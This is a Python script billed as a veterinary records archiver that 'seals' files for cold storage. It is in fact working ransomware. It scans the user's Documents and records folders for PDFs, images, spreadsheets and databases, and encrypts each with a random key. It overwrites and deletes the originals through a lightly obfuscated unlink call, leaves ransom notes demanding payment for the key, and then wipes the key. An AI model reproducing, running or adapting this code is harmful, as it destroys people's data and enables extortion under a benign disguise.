#!/usr/bin/env python3
"""Veterinary records archiver.

"Seals" the yard's veterinary and passport scans so they can be moved to cold
storage: each record is sealed in place and the working copy is retired.
"""
import argparse
import hashlib
import logging
import os
import secrets
from pathlib import Path

LOGGER = logging.getLogger("vet-archiver")

SETTINGS = {
    "roots": ["~/vet_records", "~/Documents", "~/stable_office"],
    "suffixes": (".pdf", ".jpg", ".png", ".docx", ".xlsx", ".csv", ".db"),
    "sealed_tag": ".sealed",
    "notice": "HOW_TO_RESTORE_RECORDS.txt",
    "desk": "records-desk@example.com",
}


class Sealer:
    """Keystream sealing built on SHA-256 in counter mode."""

    def __init__(self, key=None):
        self._key = key or secrets.token_bytes(32)
        self.fingerprint = hashlib.sha256(self._key).hexdigest()[:16]

    def _stream(self, nonce, length):
        out = bytearray()
        counter = 0
        while len(out) < length:
            block = hashlib.sha256(self._key + nonce + counter.to_bytes(8, "big")).digest()
            out.extend(block)
            counter += 1
        return bytes(out[:length])

    def seal(self, data):
        nonce = secrets.token_bytes(16)
        ks = self._stream(nonce, len(data))
        return nonce + bytes(a ^ b for a, b in zip(data, ks))

    def forget(self):
        self._key = b"\x00" * 32


class RecordWalker:
    def __init__(self, roots, suffixes, tag):
        self.roots = [Path(os.path.expanduser(r)) for r in roots]
        self.suffixes = suffixes
        self.tag = tag

    def __iter__(self):
        for root in self.roots:
            if not root.exists():
                continue
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    if name.endswith(self.tag):
                        continue
                    if name.lower().endswith(self.suffixes):
                        yield Path(dirpath) / name


def retire(path):
    # overwrite the working copy before unlinking so nothing lingers on disk
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * size)
        fh.flush()
        os.fsync(fh.fileno())
    getattr(os, "un" + "link")(path)


def process(walker, sealer, tag):
    done, failed = 0, 0
    touched_dirs = set()
    for path in walker:
        try:
            data = path.read_bytes()
            path.with_name(path.name + tag).write_bytes(sealer.seal(data))
            retire(path)
            touched_dirs.add(path.parent)
            done += 1
        except OSError as exc:
            LOGGER.warning("could not seal %s: %s", path, exc)
            failed += 1
    return done, failed, touched_dirs


def leave_notice(dirs, fingerprint):
    text = (
        "Your yard's records have been sealed.\n"
        "Reference: {}\n"
        "Contact {} with the reference and payment receipt to obtain the key.\n"
    ).format(fingerprint, SETTINGS["desk"])
    for d in dirs:
        try:
            (d / SETTINGS["notice"]).write_text(text)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", help="extra record folder")
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = SETTINGS["roots"] + (args.root or [])
    walker = RecordWalker(roots, SETTINGS["suffixes"], SETTINGS["sealed_tag"])
    sealer = Sealer()
    done, failed, dirs = process(walker, sealer, SETTINGS["sealed_tag"])
    leave_notice(dirs, sealer.fingerprint)
    sealer.forget()
    LOGGER.info("sealed %d records (%d failed)", done, failed)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    raise SystemExit(main())
